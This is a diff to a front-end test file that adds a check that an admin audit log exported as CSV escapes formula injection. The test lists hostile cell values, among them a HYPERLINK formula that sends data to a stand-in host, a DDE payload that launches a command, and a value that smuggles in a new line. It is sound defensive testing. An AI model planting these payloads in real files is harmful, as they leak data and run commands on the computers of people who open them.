@@ -1,4 +1,4 @@
-import { AppError, type AuditEntry } from '@sillage/contract';
+import { AppError, type AuditEntry, unguardCsvCell } from '@sillage/contract';
 import { screen, within } from '@testing-library/react';
 import { userEvent } from '@testing-library/user-event';
 import { describe, expect, test, vi } from 'vitest';
@@ -32,6 +32,16 @@ const entry: AuditEntry = {
 };
 
 const givenOperator = () => givenSignedIn(givenUser({ isOperator: true }));
+
+/** Reads CSV as RFC 4180 defines it. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.slice(0, -1);
+}
 
 const findFigure = async (label: string) => (await screen.findByText(label)).nextSibling?.textContent;
 
@@ -83,6 +93,42 @@ describe('console', () => {
     await userEvent.click(screen.getByRole('button', { name: 'Show older entries' }));
     await screen.findByText('On the command line');
     expect(list.mock.lastCall?.[0].query).toEqual({ before: entry.id });
+  });
+
+  test('the audit log as CSV runs no formula and adds no line, whatever names and notes contain', async () => {
+    givenOperator();
+    const hostile = [
+      '=HYPERLINK("https://evil.example?"&A1)',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      'a"\r\n=1+1,"b',
+      '\uff1d1+1',
+    ];
+    const entries = hostile.map((text) => ({
+      ...entry,
+      actor: { id: entry.id, name: text },
+      subject: { kind: 'fragrance', id: text, name: text },
+      before: { note: text },
+      after: { [text]: text },
+    }));
+    let file = new Blob();
+    URL.createObjectURL = (given) => {
+      file = given as Blob;
+      return 'blob:';
+    };
+    fakeApi({ adminAudit: { list: () => ({ entries: [], hasMore: false }), exportAll: () => entries } });
+    renderApp('/admin/audit');
+    await userEvent.click(await screen.findByRole('button', { name: 'Download as CSV' }));
+    await screen.findByText('The audit log was downloaded');
+    const [names = [], ...rows] = parseCsv(await file.text());
+    expect(rows.map(({ length }) => length)).toEqual(hostile.map(() => names.length));
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d]/);
+    const cells = (name: string) => rows.map((row) => row[names.indexOf(name)] ?? '');
+    expect(cells('subject').map(unguardCsvCell)).toEqual(hostile);
+    expect(cells('before').map((text): unknown => JSON.parse(text))).toEqual(hostile.map((note) => ({ note })));
   });
 
   test('a request that needs a fresh sign-in is repeated after the password', async () => {
